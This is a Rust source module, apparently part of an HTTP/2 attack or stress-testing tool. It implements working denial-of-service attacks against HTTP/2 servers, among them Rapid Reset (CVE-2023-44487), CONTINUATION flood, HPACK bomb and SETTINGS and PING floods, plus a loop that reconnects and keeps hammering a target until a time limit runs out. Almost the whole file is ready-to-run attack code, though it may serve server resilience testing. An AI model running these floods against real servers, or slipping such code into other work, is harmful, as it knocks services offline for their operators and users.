//! Endless frames: streams that are reset at once, header blocks, SETTINGS, PING.

use std::io::{Error, ErrorKind, Result};

use super::Scene;
use crate::attack::frames::*;

/// CVE-2023-44487: 100,000 or more streams, each reset right after it is opened.
pub(crate) fn rapid_reset(scene: &Scene) -> String {
    let (first, short) = check_head_and_short_one();
    let pair = |stream, head: &[u8]| {
        let headers = frame(HEADERS, END_HEADERS, stream, head);
        [headers, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    };
    let others = (1..50_000).flat_map(|number| pair(2 * number + 1, &short));
    let burst: Vec<u8> = pair(1, &first).into_iter().chain(others).collect();
    let mut bursts = 0;
    let seen = hammer(scene, |raw| {
        bursts += 1;
        raw.write(&burst)?;
        Err(ErrorKind::Other.into())
    });
    format!("{bursts} connections with 50,000 streams each; {seen}")
}

/// VU#421644 (CVE-2024-27316 and others).
pub(crate) fn continuation_flood(scene: &Scene) -> String {
    let more = frame(CONTINUATION, 0, 1, &literal("x-filler", &"a".repeat(1000)));
    hammer(scene, |raw| {
        raw.write(&frame(HEADERS, 0, 1, &check_head()))?;
        (0..20_000).try_for_each(|_| raw.write(&more))
    })
}

/// One entry in the HPACK table, then thousands of references to it (CVE-2016-6581).
pub(crate) fn hpack_bomb(scene: &Scene) -> String {
    let bomb = [check_head(), indexed("x", &"a".repeat(4000)), vec![0xBE; 12_000]].concat();
    hammer(scene, |raw| {
        (0..50).try_for_each(|number| {
            raw.write(&frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &bomb))
        })?;
        Err(ErrorKind::Other.into())
    })
}

/// CVE-2019-9515.
pub(crate) fn settings_flood(scene: &Scene) -> String {
    let settings = frame(SETTINGS, 0, 0, &[]).repeat(100);
    hammer(scene, |raw| raw.write(&settings))
}

/// CVE-2019-9512.
pub(crate) fn ping_flood(scene: &Scene) -> String {
    let pings = frame(PING, 0, 0, b"12345678").repeat(100);
    hammer(scene, |raw| raw.write(&pings))
}

/// Repeats a write until the time is over, on a new connection whenever the server closes one.
/// Returns how the server reacted.
fn hammer(scene: &Scene, mut write: impl FnMut(&mut Raw) -> Result<()>) -> String {
    let (mut opened, mut seen) = (0, Reaction::default());
    while !scene.is_over() {
        let Ok(mut raw) = Raw::open(scene.address, &[]) else { continue };
        opened += 1;
        let ended = loop {
            match write(&mut raw) {
                Ok(()) if scene.is_over() => break None,
                Ok(()) => {}
                Err(error) => break Some(error),
            }
        };
        let stuck =
            |error: &Error| matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut);
        seen.unread += usize::from(ended.as_ref().is_some_and(stuck));
        seen += raw.reaction_now();
    }
    format!(
        "{opened} connections, of them {} ended by GOAWAY (ENHANCE_YOUR_CALM), {} not read any more; {} answers",
        seen.calm, seen.unread, seen.heads
    )
}
